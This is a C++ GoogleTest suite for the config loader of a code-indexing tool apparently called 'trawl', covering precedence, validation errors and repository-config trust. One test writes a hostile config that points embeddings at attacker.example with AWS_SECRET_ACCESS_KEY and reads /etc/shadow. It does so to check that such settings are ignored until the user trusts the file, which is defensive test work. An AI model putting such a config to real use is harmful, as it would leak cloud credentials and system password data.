#include "trawl/options.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>

namespace trawl {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

class OptionsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("trawl_options_" + std::to_string(::getpid()) + "_" +
                                        ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }
  void Write(const std::string& name, const std::string& text) {
    std::ofstream(dir_ / name) << text;
  }
  Result<Options> Load(std::map<std::string, std::string> overrides = {}) {
    LoadOptionsRequest req;
    req.root = dir_.string();
    req.user_config_dir = (dir_ / "user").string();
    req.overrides = std::move(overrides);
    req.read_environment = true;
    return LoadOptions(req);
  }
  fs::path dir_;
};

// A repository's own config cannot send data off the machine, read secrets or follow
// symlinks out of the tree until the user trusts it as it is; then it can, until it
// changes. The user's own config and --config are trusted.
TEST_F(OptionsTest, RepositoryConfigIsTrustedOnlyAsTheUserTrustedIt) {
  const std::string hostile =
      "indexing:\n  follow_symlinks: true\n  max_file_size_kb: 7\nembeddings:\n  provider: openai\n"
      "  url: http://attacker.example/v1\n  api_key_env: AWS_SECRET_ACCESS_KEY\n  model: m\n"
      "server:\n  host: 0.0.0.0\n  token_file: /etc/shadow\n";
  Write(".trawl.yaml", hostile);
  auto o = Load();
  ASSERT_TRUE(o.ok()) << o.status().ToString();
  EXPECT_FALSE(o->indexing.follow_symlinks);
  EXPECT_EQ(o->embeddings.provider, "hash");
  EXPECT_EQ(o->embeddings.url, "");
  EXPECT_EQ(o->embeddings.api_key_env, "");
  EXPECT_EQ(o->server.host, "127.0.0.1");
  EXPECT_EQ(o->server.token_file, "");
  EXPECT_EQ(o->indexing.max_file_size_kb, 7);  // the harmless rest applies
  EXPECT_EQ(o->embeddings.model, "m");
  ASSERT_EQ(o->ignored_settings.size(), 6u);
  EXPECT_THAT(o->ignored_settings[0], HasSubstr("indexing.follow_symlinks (" + (dir_ / ".trawl.yaml").string() + ":2)"));

  ASSERT_TRUE(TrustConfig((dir_ / ".trawl.yaml").string(), (dir_ / "user").string()).ok());
  o = Load();
  ASSERT_TRUE(o.ok());
  EXPECT_TRUE(o->ignored_settings.empty());
  EXPECT_EQ(o->embeddings.url, "http://attacker.example/v1");
  EXPECT_TRUE(o->indexing.follow_symlinks);

  // Changed after it was trusted: untrusted again.
  Write(".trawl.yaml", hostile + "search:\n  k: 5\n");
  o = Load();
  ASSERT_TRUE(o.ok());
  EXPECT_EQ(o->embeddings.url, "");
  EXPECT_EQ(o->ignored_settings.size(), 6u);

  // The user's own config, and a file named with --config, are the user's choice.
  fs::create_directories(dir_ / "user");
  Write("user/config.yaml", "embeddings:\n  provider: ollama\n  url: http://127.0.0.1:11434\n");
  o = Load();
  ASSERT_TRUE(o.ok());
  EXPECT_EQ(o->embeddings.provider, "ollama");
  EXPECT_EQ(o->embeddings.url, "http://127.0.0.1:11434");
  fs::remove(dir_ / "user/config.yaml");
  LoadOptionsRequest named;
  named.root = dir_.string();
  named.user_config_dir = (dir_ / "user").string();
  named.config_file = (dir_ / ".trawl.yaml").string();
  o = LoadOptions(named);
  ASSERT_TRUE(o.ok());
  EXPECT_EQ(o->embeddings.url, "http://attacker.example/v1");
  EXPECT_TRUE(o->ignored_settings.empty());

  // Bad values of ignored settings are still errors.
  Write(".trawl.yaml", "embeddings:\n  provider: magic\n");
  EXPECT_FALSE(Load().ok());
}

TEST_F(OptionsTest, DuplicateKeysListsAndChunkLimitsAreCheckedAtLoad) {
  Write(".trawl.yaml", "indexing:\n  max_file_size_kb: 2\n  max_file_size_kb: 3\n");
  auto o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_EQ(o.status().code(), StatusCode::kInvalidArgument);
  EXPECT_THAT(o.status().message(), HasSubstr(":3: 'indexing.max_file_size_kb' is set twice"));
  Write(".trawl.yaml", "ignore:\n  patterns: '*.log'\n");
  o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("ignore.patterns: expected a list of strings"));
  Write(".trawl.yaml", "chunking:\n  min_chunk_chars: 5000\n  max_chunk_chars: 3000\n");
  o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("chunking.min_chunk_chars (5000) must not exceed"));
}

TEST_F(OptionsTest, DefaultsWithoutConfig) {
  auto o = Load();
  ASSERT_TRUE(o.ok()) << o.status().ToString();
  EXPECT_EQ(o->embeddings.provider, "hash");
  EXPECT_EQ(o->index_dir, dir_.string() + "/.trawl");
  EXPECT_TRUE(o->ignore.use_defaults);
  EXPECT_GE(o->EffectiveWorkers(), 1);
  EXPECT_EQ(o->search.rerank_depth, 100);
  EXPECT_EQ(o->search.pasted_rerank_depth, 200);
}

TEST_F(OptionsTest, YamlThenEnvironmentThenFlags) {
  Write(".trawl.yaml",
        "indexing:\n  concurrent_workers: 3\n  max_file_size_kb: 10\n"
        "ignore:\n  patterns: ['*.log', 'tmp/']\n  use_defaults: false\n"
        "search:\n  pasted_rerank_depth: 50\n");
  setenv("TRAWL_INDEXING__MAX_FILE_SIZE_KB", "20", 1);
  auto o = Load({{"indexing.concurrent_workers", "5"}});
  unsetenv("TRAWL_INDEXING__MAX_FILE_SIZE_KB");
  ASSERT_TRUE(o.ok()) << o.status().ToString();
  EXPECT_EQ(o->indexing.concurrent_workers, 5);  // flag beats file
  EXPECT_EQ(o->indexing.max_file_size_kb, 20);   // env beats file
  EXPECT_FALSE(o->ignore.use_defaults);
  EXPECT_THAT(o->ignore.patterns, ElementsAre("*.log", "tmp/"));
  EXPECT_EQ(o->EffectiveWorkers(), 5);
  EXPECT_EQ(o->search.pasted_rerank_depth, 50);
}

TEST_F(OptionsTest, EnableParallelFalseMeansOneWorker) {
  Write(".trawl.yaml", "indexing:\n  enable_parallel: false\n  concurrent_workers: 8\n");
  auto o = Load();
  ASSERT_TRUE(o.ok());
  EXPECT_EQ(o->EffectiveWorkers(), 1);
}

TEST_F(OptionsTest, UnknownKeyNamesFileLineAndKey) {
  Write(".trawl.yaml", "indexing:\n  concurrent_workers: 2\n  concurent_workers: 3\n");
  auto o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr(".trawl.yaml:3: unknown key 'indexing.concurent_workers'"));
}

TEST_F(OptionsTest, BadValueNamesKey) {
  Write(".trawl.yaml", "embeddings:\n  batch_size: lots\n");
  auto o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr(".trawl.yaml:2: embeddings.batch_size: expected an integer"));
  Write(".trawl.yaml", "embeddings:\n  provider: magic\n");
  o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("expected one of hash, openai, ollama"));
}

TEST_F(OptionsTest, UnknownSectionAndInvalidYaml) {
  Write(".trawl.yaml", "indexer:\n  x: 1\n");
  auto o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr(":1: unknown section 'indexer'"));
  Write(".trawl.yaml", "indexing: [1, 2\n");
  o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("invalid YAML"));
}

// A config path that is a directory (given, or a .trawl.yaml folder in the tree) is a
// clear error, not an exception out of the YAML reader.
TEST_F(OptionsTest, ConfigThatIsADirectoryIsAnError) {
  fs::create_directories(dir_ / ".trawl.yaml");
  auto o = Load();
  ASSERT_FALSE(o.ok());
  EXPECT_EQ(o.status().code(), StatusCode::kInvalidArgument);
  EXPECT_THAT(o.status().message(), HasSubstr("is a directory"));
  LoadOptionsRequest req;
  req.root = dir_.string();
  req.config_file = fs::temp_directory_path().string();
  o = LoadOptions(req);
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("is a directory"));
}

TEST_F(OptionsTest, IndexFolderCannotBeTheTreeAndMissingRootIsNamed) {
  LoadOptionsRequest req;
  req.root = dir_.string();
  req.index_dir = dir_.string() + "/";
  auto o = LoadOptions(req);
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("cannot be the indexed tree itself"));
  req.index_dir = (dir_ / "idx").string();
  EXPECT_TRUE(LoadOptions(req).ok());
  req.root = (dir_ / "missing").string();
  o = LoadOptions(req);
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("no such directory"));
}

TEST_F(OptionsTest, BadEnvironmentNamesVariable) {
  setenv("TRAWL_INDEXING__NOPE", "1", 1);
  auto o = Load();
  unsetenv("TRAWL_INDEXING__NOPE");
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("TRAWL_INDEXING__NOPE"));
}

TEST_F(OptionsTest, RemoteProviderNeedsUrl) {
  auto o = Load({{"embeddings.provider", "openai"}});
  ASSERT_FALSE(o.ok());
  EXPECT_THAT(o.status().message(), HasSubstr("embeddings.url"));
}

TEST_F(OptionsTest, DescribeListsEveryKey) {
  auto o = Load();
  ASSERT_TRUE(o.ok());
  auto keys = DescribeOptions(*o);
  EXPECT_GT(keys.size(), 25u);
  // Every described key round-trips as an override.
  std::map<std::string, std::string> all(keys.begin(), keys.end());
  auto again = Load(all);
  ASSERT_TRUE(again.ok()) << again.status().ToString();
}

}  // namespace
}  // namespace trawl
